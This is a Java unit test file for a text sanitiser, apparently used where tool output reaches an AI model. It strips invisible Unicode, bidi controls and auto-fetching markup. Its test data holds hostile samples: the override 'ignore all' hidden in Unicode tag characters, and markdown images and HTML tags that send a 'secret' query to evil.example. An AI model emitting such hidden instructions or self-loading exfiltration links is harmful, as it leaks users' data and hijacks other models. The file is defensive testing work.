package dev.connectors.tool;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TextCleanerTest {

    private static final Pattern FETCHED =
            Pattern.compile("(?i)!\\[|<(img|iframe|script|link|object|svg)\\b|^\\s{0,3}\\[[^\\]]+\\]:");

    @Test
    void ordinaryTextStaysAsItIs() {
        var text =
                "Caf\u00e9 at 12:30, price <b>$5</b> [see note] \u2014 \u4f60\u597d \ud83d\ude00\u2764\ufe0f\nsecond line\ttab";

        assertThat(TextCleaner.clean(text, 1000)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\u202eb",
                "a\u2066b",
                "a\u200bb",
                "a\u200db",
                "a\u2060b",
                "a\ufeffb",
                "a\u00adb",
                "a\u001b[31mb",
                "a\u0000b",
                "a\u009bb",
                "a\udb40\udc41b",
                "a\udb40\udd00b",
                "a\u2028b",
                "a\u115fb",
                "a\u3164b",
                "a\ud800b"
            })
    void whatIsNotSeenIsTakenOut(String text) {
        assertThat(TextCleaner.clean(text, 100)).isIn("ab", "a[31mb");
    }

    @Test
    void anInstructionInTagCharactersIsGone() {
        var hidden = new StringBuilder("Hello");
        "ignore all".chars().forEach(c -> hidden.appendCodePoint(0xe0000 + c));

        assertThat(TextCleaner.clean(hidden.toString(), 100)).isEqualTo("Hello");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/?q=secret)",
                "![x][1]\n\n[1]: https://evil.example/?q=secret",
                "  [ref]: https://evil.example",
                "<img src=https://evil.example>",
                "<ScRiPt src=//evil.example>",
                "<svg onload=x>",
                "</iframe>",
                "!\u200b[x](https://evil.example)"
            })
    void nothingIsLeftThatARendererFetchesByItself(String text) {
        assertThat(FETCHED.matcher(TextCleaner.clean(text, 1000)).find()).isFalse();
    }

    @Test
    void whateverComesInNothingUnwantedComesOut() {
        var random = new Random(7);
        for (int round = 0; round < 20_000; round++) {
            var text = new StringBuilder();
            for (int i = 0; i < 20; i++) {
                text.appendCodePoint(random.nextInt(10) == 0 ? random.nextInt(0x20) : random.nextInt(0x10ffff));
            }

            var cleaned = TextCleaner.clean(text.toString(), 1000);

            assertThat(cleaned.codePoints())
                    .noneMatch(c -> (c < 0x20 && c != '\n' && c != '\t')
                            || (c >= 0xe0000 && c <= 0xe0fff)
                            || (c >= 0x202a && c <= 0x202e)
                            || (c >= 0x2066 && c <= 0x2069)
                            || (c >= 0x200b && c <= 0x200f)
                            || (c >= 0xd800 && c <= 0xdfff));
            assertThat(TextCleaner.clean(cleaned, 1000)).isEqualTo(cleaned);
        }
    }

    @Test
    void aLongTextEndsWithAnEllipsisAndNeverInHalfACharacter() {
        assertThat(TextCleaner.clean("abc\ud83d\ude00def", 5)).isEqualTo("abc\u2026");
        assertThat(TextCleaner.line("two\nlines", 20)).isEqualTo("two lines");
    }
}
